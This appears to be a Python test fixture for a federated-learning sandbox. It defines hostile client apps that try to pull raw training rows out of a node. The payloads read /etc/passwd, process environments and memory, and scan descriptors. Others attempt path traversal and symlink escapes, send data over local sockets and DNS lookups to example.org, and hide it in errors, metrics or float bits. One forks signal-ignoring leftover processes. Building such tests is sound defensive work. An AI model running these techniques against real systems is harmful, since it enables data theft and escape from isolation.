"""Apps that try to take raw rows out of a node: each finds what it can, and sends all of it through a wide channel.

The channel (`loot`) is a part of their limits here, so that whatever they find would be seen to leave. The path of the
raw file, and a port that listens, are told by a server that is in league with them.
"""

from __future__ import annotations

from typing import Any

from tests.federated.foreign import HEAD, REPLY, bundle_of

LOOT = 100_000
WIDE: dict[str, Any] = {"train": {**REPLY, "arrays": {**REPLY["arrays"], "loot/0": f"uint8 <={LOOT}"}}}

TOOLS = """
import ctypes, os, re, signal, socket, sys, time
from pathlib import Path

def send(message, *loot):
    found = b"\\n".join(item if isinstance(item, bytes) else str(item).encode() for item in loot)[:100_000]
    return reply(message, loot=ArrayRecord([np.frombuffer(found, dtype=np.uint8).copy()]))

def tried(attempt, *arguments):
    try:
        return attempt(*arguments)
    except BaseException as error:
        return f"<{type(error).__name__}>"

def read(path):
    number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(number, 100_000)
    finally:
        os.close(number)
"""

#: what each does in `train`; `told` is what the server told it
APPS = {
    "files": """
places = [told["data"], told["data"] + "/../node/egress.json", "/etc/passwd", "/proc/self/environ"]
for path in [Path(told["data"]).parent, Path("/var"), Path("/root"), Path("/home"), Path("/sys"), Path("/run")]:
    places += [str(found) for found in (tried(os.listdir, path) or [])]
return send(message, *(tried(read, path) for path in places))
""",
    "everything": """
packages, loot = ("/usr/lib", "/lib", *(entry for entry in sys.path[1:] if entry)), []
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if not os.path.join(folder, name).startswith(packages)]
    if not folder.startswith(packages) and "/fedanon" not in folder:
        loot += [item for name in files for item in (f"{folder}/{name}", tried(read, f"{folder}/{name}"))]
return send(message, len(loot), *loot)
""",
    "links": """
os.symlink(told["data"], "link")
loot = [tried(read, "link"), tried(os.link, told["data"], "hard"), tried(read, "hard")]
loot += [tried(read, f"{'../' * n}{told['data'][1:]}") for n in range(12)]
loot += [tried(os.chroot, "/"), tried(os.utime, told["data"], (1, 1)), tried(os.chmod, told["data"], 0o777)]
return send(message, *loot)
""",
    "parents": """
def parent_of(number):
    return int(re.search(r"PPid:\\s*(\\d+)", Path(f"/proc/{number}/status").read_text())[1])
numbers, loot = {os.getppid(), 1}, []
tried(lambda: numbers.update({parent_of(os.getppid())}))
tried(lambda: numbers.update(int(name) for name in os.listdir("/proc") if name.isdigit() and len(numbers) < 50))
for number in sorted(numbers):
    for name in ("environ", "cmdline", "cwd", "root" + told["data"], "task", "mountinfo"):
        loot.append(tried(read, f"/proc/{number}/{name}"))
    loot += [tried(read, f"/proc/{number}/fd/{n}") for n in range(3, 10)]
return send(message, *loot)
""",
    "memory": """
libc, loot = ctypes.CDLL(None, use_errno=True), []
def parents():
    number = os.getppid()
    while number > 1:
        yield number
        number = int(re.search(r"PPid:\\s*(\\d+)", Path(f"/proc/{number}/status").read_text())[1])
def search(number):
    with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw-p " in line and end - start < 1 << 28:
                memory.seek(start)
                found = tried(memory.read, end - start)
                if isinstance(found, bytes) and b"CANARY-" in found:
                    loot.extend(re.findall(rb"CANARY-[0-9a-f]{12}", found)[:50])
for number in tried(lambda: list(parents())[:3]) or []:
    loot.append(tried(search, number) if isinstance(number, int) else number)
for number in (os.getppid(), 1):
    loot += [libc.ptrace(16, number, 0, 0), libc.process_vm_readv(number, 0, 0, 0, 0, 0), tried(os.kill, number, 0)]
    loot += [tried(os.pidfd_open, number)]
return send(message, *loot)
""",
    "descriptors": """
loot = []
for number in range(3, 256):
    loot.append(tried(os.pread, number, 100_000, 0))
    loot.append(tried(os.readlink, f"/proc/self/fd/{number}"))
return send(message, *loot, *(tried(os.pread, number, 5000, 0) for number in (0, 1, 2)))
""",
    "environment": """
return send(message, sorted(os.environ.items()), sys.argv, os.getcwd(), context.node_config, tried(os.getlogin))
""",
    "sockets": """
rows = load_release().train.features.tobytes()
def tcp():
    with socket.create_connection(("127.0.0.1", told["port"]), 2) as line:
        line.sendall(b"TAKEN" + rows)
def udp(family=socket.AF_INET, address="127.0.0.1"):
    socket.socket(family, socket.SOCK_DGRAM).sendto(b"TAKEN" + rows[:500], (address, told["port"]))
def unix(name):
    line = socket.socket(socket.AF_UNIX)
    line.connect(name)
    line.sendall(b"TAKEN")
tries = [tried(tcp), tried(udp), tried(udp, socket.AF_INET6, "::1"), tried(unix, told["unix"])]
tries += [tried(unix, "\\0" + told["abstract"]), tried(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW)]
tries += [tried(socket.socket, 40, socket.SOCK_STREAM)]
return send(message, *tries)
""",
    "names": """
tries = [tried(socket.getaddrinfo, f"{row:.6f}.example.org", 80) for row in load_release().train.features[0]]
tries += [tried(socket.gethostbyname, "localhost"), tried(socket.gethostname), tried(os.uname)]
return send(message, *tries)
""",
    "writing": """
def write(path):
    Path(path).write_bytes(b"TAKEN")
folders = [Path(told["data"]).parent, Path.home(), Path("/var/tmp"), Path("/"), Path("/usr/lib"), Path("/dev/shm")]
folders += [Path(folder) for folder in sys.path[:8]]
folders = folders[:1] if told["control"] else folders
return send(message, *(tried(write, folder / told["mark"]) for folder in folders))
""",
    "shared memory": """
libc = ctypes.CDLL(None, use_errno=True)
loot = [libc.shmget(told["key"], 4096, 0)]
if loot[0] >= 0:
    libc.shmat.restype = ctypes.c_void_p
    loot.append(ctypes.string_at(libc.shmat(loot[0], 0, 0), 4096))
loot += [tried(read, f"/dev/shm/{told['mark']}"), tried(os.listdir, "/dev/shm"), libc.msgget(told["key"], 0)]
return send(message, *loot)
""",
    "exceptions": """
rows = load_release().train.features
raise type(f"Rows{rows[0]}", (ValueError,), {})(f"TAKEN {rows.tolist()}")
""",
    "error replies": """
from flwr.app import Error
return Message(Error(code=7, reason=f"TAKEN {load_release().train.features.tolist()}"), reply_to=message)
""",
    "metrics": """
row = load_release().train.features[0]
taken = {f"TAKEN {name}": float(value) for name, value in zip("abcd", row)}
made = reply(message, loss=float(np.float64(12.345678901234)))
made.content["metrics"].update(taken)
made.content["loot"] = ArrayRecord([np.zeros(3, dtype=np.uint8)])
made.metadata.__dict__["_group_id"] = "TAKEN"
made.metadata.__dict__["_ttl"] = 12.345678
return made
""",
    "low bits": """
secret = np.frombuffer(b"TAKEN by low bits", dtype=np.uint8)
weights = (np.float32(1).view(np.uint32) | np.resize(secret, 4).astype(np.uint32)).view(np.float32)
made = reply(message, weights)
array = made.content["arrays"]["0"]
odd = b"{'shape': (4,),'fortran_order':True,'descr':'<f4' }"
header = odd.ljust(len(array.data) - 16 - 11) + b"\\n"
assert len(header) + 10 + 16 == len(array.data)
made.content["arrays"]["0"] = Array("float32", (4,), "numpy.ndarray", array.data[:10] + header + array.data[-16:])
made.content["loot"] = ArrayRecord([np.zeros(3, dtype=np.uint8)])
return made
""",
    "after the end": """
for _ in range(3):
    if os.fork() == 0:
        tried(os.setsid)
        tried(os.setpgid, 0, 0)
        ctypes.CDLL(None).prctl(1, 0)
        for number in range(1, 65):
            tried(signal.signal, number, signal.SIG_IGN)
        while True:
            time.sleep(0.2)
            for number in range(3, 64):
                tried(os.write, number, b"TAKEN" * 100)
return send(message, "left behind")
""",
}


def bundle(name: str) -> bytes:
    body = "\n".join(f"    {line}" for line in ("told = context.run_config\n" + APPS[name].strip("\n")).splitlines())
    return bundle_of(f"{HEAD}{TOOLS}\n@app.train()\ndef train(message, context):\n{body}\n")
